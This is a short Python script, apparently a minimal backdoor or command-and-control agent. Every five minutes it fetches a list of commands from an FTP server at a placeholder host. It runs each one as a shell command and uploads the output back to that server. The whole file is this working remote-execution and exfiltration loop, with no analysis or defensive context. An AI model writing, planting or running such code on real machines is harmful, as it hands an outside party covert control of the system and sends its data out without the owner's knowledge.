import ftplib, time, subprocess
while True:
    f = ftplib.FTP("ftp.example.com", "u", "p")
    tasks = []
    f.retrlines("RETR tasks.txt", tasks.append)
    for t in tasks:
        out = subprocess.getoutput(t)
        open("/tmp/o", "w").write(out)
        f.storbinary("STOR out.txt", open("/tmp/o", "rb"))
    f.quit()
    time.sleep(300)
